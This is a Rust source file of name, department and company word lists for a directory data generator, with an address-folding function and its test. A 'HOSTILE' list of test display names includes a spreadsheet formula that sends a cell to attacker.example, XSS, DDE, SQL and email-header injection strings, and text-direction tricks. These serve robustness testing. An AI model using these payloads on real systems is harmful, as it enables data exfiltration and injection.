//! Word lists the generator draws names from: Steward's own, with the diacritics and hostile names that real
//! directories hold.

use crate::directory::Kind;

#[rustfmt::skip]
pub(crate) const GIVEN: &[&str] = &[
    "Anna", "Ben", "Carla", "David", "Elena", "Felix", "Greta", "Hannah", "Ivan", "Julia", "Karim", "Laura",
    "Marco", "Nadia", "Oliver", "Petra", "Quentin", "Rosa", "Samuel", "Tara", "Umar", "Vera", "William", "Xenia",
    "Yusuf", "Zara", "Zoë", "Jürgen", "Søren", "Łukasz", "François", "Chloé", "José", "Íñigo", "Márta", "Đorđe",
    "Gülşen", "Åsa", "Ødger", "Renée", "Siân", "Nuño", "Bjørn", "Jiří", "Oğuz", "Ștefania", "Aoife", "Niamh",
    "Ciarán", "Priya", "Arjun", "Mei", "Haruto", "Linh", "Minh", "Amara", "Chidi", "Fatima", "Omar", "Leila",
    "Noah", "Emma", "Liam", "Mia", "Lucas", "Sophie", "Jonas", "Clara", "Paul", "Ida", "Theo", "Nora", "Max",
    "Lena", "Hugo", "Alice", "Tom", "Eva", "Simon", "Katrin", "Stefan", "Monika", "Thomas", "Birgit", "Andreas",
    "Ursula", "Peter", "Sabine", "Martin", "Claudia", "George", "Harriet", "Isla", "Jack", "Kira", "Logan", "Maya",
    "Nathan", "Olga", "Pavel",
];

#[rustfmt::skip]
pub(crate) const SURNAMES: &[&str] = &[
    "Adler", "Baker", "Castillo", "Dahl", "Eriksen", "Fischer", "Grant", "Huber", "Ibrahim", "Jansen", "Keller",
    "Lopez", "Meyer", "Nguyen", "Okafor", "Patel", "Quinn", "Rossi", "Schmidt", "Tanaka", "Ueda", "Varga", "Weber",
    "Xu", "Young", "Zimmer", "Müller", "Groß", "Çelik", "Nuñez", "García", "Šimić", "Kowalczyk", "Dvořák",
    "Ångström", "Sørensen", "Lindqvist", "Brûlé", "Lefèvre", "Márquez", "Gonçalves", "Ionescu", "Țurcanu", "Yıldız",
    "Håkansson", "O'Brien", "O'Connor", "MacDonald", "van der Berg", "de la Cruz", "von Stein", "Smith-Jones",
    "Abebe", "Botha", "Chen", "Diaz", "Evans", "Ferrari", "Gruber", "Hansen", "Ivanov", "Jensen", "Kim", "Larsen",
    "Moreau", "Nowak", "Olsen", "Petrov", "Richter", "Sato", "Taylor", "Ulrich", "Vogel", "Wagner", "Yamamoto",
    "Ziegler", "Bauer", "Braun", "Carter", "Duarte", "Ellis", "Fuchs", "Gomes", "Hartmann", "Iyer", "Jones", "Kaya",
    "Lang", "Maier", "Novak", "Otto", "Pereira", "Reid", "Silva", "Thomsen", "Urban", "Vidal", "Wright", "Yeo",
    "Zhang",
];

/// Display names that break careless software, and the address that goes with each: formulas, markup, templates,
/// control and text-direction characters, other scripts, great length.
pub(crate) const HOSTILE: &[(&str, &str)] = &[
    ("=HYPERLINK(\"https://attacker.example/?\"&A1,\"Invoice\")", "hyperlink"),
    ("<script>alert(document.cookie)</script>", "scripty"),
    ("<img src=x onerror=alert(1)> Müller", "img.mueller"),
    ("Report\u{202e}fdp.exe", "report"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "summer"),
    ("Robert\r\nBcc: everyone@victim.example", "robert.b"),
    ("O'Hara\"; DROP TABLE users;--", "ohara"),
    ("{{ 7 * 7 }} ${7*7} {% raw %}", "templates"),
    ("+49 30 1234567", "phone"),
    ("-2+3", "minus"),
    ("Zero\u{200b}Width\u{feff} Person", "zero.width"),
    ("李小龍", "li.xiaolong"),
    ("Ελένη Παπαδοπούλου", "eleni.papadopoulou"),
    ("محمد علي", "mohamed.ali"),
    ("👩‍👩‍👧‍👦 Family & Co. <sales@steward.example>", "family"),
    ("null", "null"),
    (
        "A name that goes on and on, as somebody once pasted a whole signature into the field: Senior Vice President \
         of Everything, Northern and Southern Hemispheres, Acting Deputy to the Deputy, please consider the \
         environment before printing this name, thank you kindly. This name is intended only for the person it is \
         addressed to; if you have received it in error, delete it and all copies of it, and tell whoever sent it, \
         who may by then go by another. No responsibility is taken for its length, its content or its consequences, \
         which remain those of the department",
        "long",
    ),
];

#[rustfmt::skip]
pub(crate) const DEPARTMENTS: &[&str] = &[
    "Sales", "Marketing", "Finance", "Operations", "Engineering", "Support", "Human Resources", "Legal",
    "Procurement", "Warehouse", "Produktion", "Forschung & Entwicklung", "Kundenbetreuung",
];

#[rustfmt::skip]
pub(crate) const TITLES: &[&str] = &[
    "Manager", "Specialist", "Assistant", "Director", "Analyst", "Engineer", "Coordinator", "Consultant", "Clerk",
    "Team Lead",
];

pub(crate) const OFFICES: &[&str] = &["Headquarters", "North", "South", "Remote", "Warehouse 2"];

pub(crate) const COUNTRIES: &[&str] = &["US", "DE", "GB", "NL", "FR", "AT", "SE", "ES"];

#[rustfmt::skip]
pub(crate) const COMPANIES: &[&str] = &[
    "Alder & Finch", "Brightwater Logistics", "Cobalt Dental", "Driftwood Furniture", "Eastgate Surveyors",
    "Fernhill Bakery", "Greywacke Engineering", "Harbour Legal", "Ironbridge Tools", "Juniper Travel",
];

/// What accounts that are nobody's are called.
pub(crate) fn things(kind: Kind) -> &'static [&'static str] {
    match kind {
        Kind::Room => &["Room Amsterdam", "Room Berlin", "Room Cairo", "Boardroom", "Room Dublin", "Workshop"],
        Kind::Shared => &["Info", "Sales Inbox", "Support", "Invoices", "Careers", "Orders", "Press"],
        Kind::Service => &["svc-backup", "svc-scanner", "svc-crm", "svc-monitoring", "svc-payroll"],
        Kind::BreakGlass => &["Emergency Access"],
        Kind::Admin => &["Mail Admin"],
        Kind::DirectorySync => &["Sync_SRV01_4f1c2a7be903"],
        Kind::Employee | Kind::Guest => &["Account"],
    }
}

/// `name` as the local part of an address: ASCII, lower case, dots for blanks.
pub(crate) fn fold(name: &str) -> String {
    let mut folded = String::with_capacity(name.len());
    for c in name.chars() {
        match c {
            'a'..='z' | '0'..='9' | '-' | '_' => folded.push(c),
            'A'..='Z' => folded.push(c.to_ascii_lowercase()),
            ' ' => folded.push('.'),
            'ä' | 'Ä' => folded.push_str("ae"),
            'ö' | 'Ö' => folded.push_str("oe"),
            'ü' | 'Ü' => folded.push_str("ue"),
            'ß' => folded.push_str("ss"),
            'ø' | 'Ø' | 'ó' | 'Ó' | 'ô' => folded.push('o'),
            'å' | 'Å' | 'á' | 'â' | 'à' => folded.push('a'),
            'é' | 'è' | 'ê' | 'ë' | 'É' => folded.push('e'),
            'í' | 'Í' | 'ı' | 'î' => folded.push('i'),
            'û' | 'ú' => folded.push('u'),
            'ç' | 'Ç' | 'ć' => folded.push('c'),
            'ñ' | 'Ñ' => folded.push('n'),
            'š' | 'Š' | 'ş' | 'ș' | 'Ș' => folded.push('s'),
            'ř' => folded.push('r'),
            'ž' => folded.push('z'),
            'ł' | 'Ł' => folded.push('l'),
            'đ' | 'Đ' => folded.push('d'),
            'ğ' => folded.push('g'),
            'Ț' | 'ț' => folded.push('t'),
            _ => {}
        }
    }
    folded
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_name_folds_to_an_address_of_its_own() {
        for list in [GIVEN, SURNAMES] {
            let mut folded: Vec<String> = list.iter().map(|name| fold(name)).collect();
            for (name, folded) in list.iter().zip(&folded) {
                let letters = name.chars().filter(|c| c.is_alphabetic()).count();
                assert!(folded.chars().filter(|c| c.is_ascii_alphabetic()).count() >= letters, "{name} -> {folded}");
            }
            folded.sort();
            folded.dedup();
            assert_eq!(folded.len(), list.len());
        }
    }
}
